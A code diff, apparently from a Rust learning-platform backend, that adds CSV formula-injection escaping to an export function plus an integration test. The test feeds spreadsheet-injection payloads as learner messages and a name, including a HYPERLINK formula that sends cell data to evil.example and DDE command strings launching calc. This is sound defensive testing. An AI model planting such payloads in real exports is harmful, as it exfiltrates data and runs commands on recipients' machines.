@@ -13,6 +13,7 @@ both_backends!(
     exports_match_transcripts_and_summaries,
     export_date_filters,
     export_errors_and_isolation,
+    csv_neutralises_formulas_and_ndjson_is_verbatim,
 );
 
 /// The learner's message that CSV must quote: a comma, quotes, a newline.
@@ -163,9 +164,12 @@ fn transcript_item(line: &Map<String, Value>) -> Value {
     Value::Object(item)
 }
 
-/// A JSON value as its CSV field.
+/// A JSON value as its CSV field: a text that a spreadsheet would read
+/// as a formula (it begins with `=`, `+`, `-`, `@`, tab or CR) gets a `'`
+/// in front; numbers are as they are.
 fn csv_field(value: &Value) -> String {
     match value {
+        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
         Value::String(s) => s.clone(),
         other => other.to_string(),
     }
@@ -503,4 +507,115 @@ async fn export_errors_and_isolation(backend: Backend) {
             "{content}"
         );
     }
+}
+
+/// A CSV export read by the csv crate: its header and records.
+async fn csv_crate_records(
+    app: &TestApp,
+    path: &str,
+) -> (csv::StringRecord, Vec<csv::StringRecord>) {
+    let text = fetch(app, path, &app.key, "text/csv; charset=utf-8").await;
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().expect("header").clone();
+    let records = reader.records().map(|r| r.expect("record")).collect();
+    (header, records)
+}
+
+/// Texts a spreadsheet would run as formulas, from a learner's messages and
+/// registration: in CSV each gets a `'` in front (read back with the csv
+/// crate); NDJSON keeps them verbatim.
+async fn csv_neutralises_formulas_and_ndjson_is_verbatim(backend: Backend) {
+    const HOSTILE: [&str; 7] = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "=1,\"2\"\n=3",
+    ];
+    let app = TestApp::spawn(backend).await;
+    let module = app.module_uuid("Test Module Updated").await;
+    let name = "=cmd|' /C calc'!A0";
+    let customer = app
+        .register_customer_by_phone(&app.key, name, "+254711000999")
+        .await["uuid"]
+        .as_str()
+        .expect("uuid")
+        .to_owned();
+    let session = app.enrol(&customer, &module, 49).await;
+    for text in HOSTILE {
+        app.say(&customer, &session, text).await;
+    }
+
+    let (header, records) = csv_crate_records(
+        &app,
+        "/api/v1/fe/program/export/messages?programIdentifier=49&format=csv",
+    )
+    .await;
+    assert_eq!(header.iter().collect::<Vec<_>>(), MESSAGE_COLUMNS);
+    let message_column = header.iter().position(|c| c == "message").expect("message");
+    let messages: Vec<String> = records
+        .iter()
+        .map(|r| r[message_column].to_owned())
+        .collect();
+    for text in HOSTILE {
+        let want = format!("'{text}");
+        assert!(
+            messages.contains(&want),
+            "{text:?} as {want:?} in {messages:?}"
+        );
+        assert!(
+            !messages.iter().any(|m| m == text),
+            "{text:?} verbatim in CSV"
+        );
+    }
+    // No cell of the file starts a formula.
+    for record in &records {
+        for (column, cell) in header.iter().zip(record.iter()) {
+            if column != "id" && column != "program_identifier" {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{column}: {cell:?}"
+                );
+            }
+        }
+    }
+
+    let (header, records) = csv_crate_records(
+        &app,
+        "/api/v1/fe/program/export/scores?programIdentifier=49&format=csv",
+    )
+    .await;
+    let record = &records[0];
+    let cell =
+        |column: &str| record[header.iter().position(|c| c == column).expect(column)].to_owned();
+    assert_eq!(cell("full_name"), format!("'{name}"));
+    assert_eq!(cell("phone"), "'+254711000999", "a phone stays text");
+    let pre_quiz_correct = cell("pre_quiz_correct");
+
+    // NDJSON: verbatim.
+    let lines = ndjson(
+        &app,
+        "/api/v1/fe/program/export/messages?programIdentifier=49",
+    )
+    .await;
+    for text in HOSTILE {
+        assert!(
+            lines.iter().any(|l| l["message"] == text),
+            "{text:?} verbatim in NDJSON"
+        );
+    }
+    let lines = ndjson(
+        &app,
+        "/api/v1/fe/program/export/scores?programIdentifier=49",
+    )
+    .await;
+    assert_eq!(lines[0]["full_name"], name);
+    assert_eq!(lines[0]["phone"], "+254711000999");
+    assert_eq!(
+        pre_quiz_correct,
+        lines[0]["pre_quiz_correct"].to_string(),
+        "numbers stay numbers"
+    );
 }
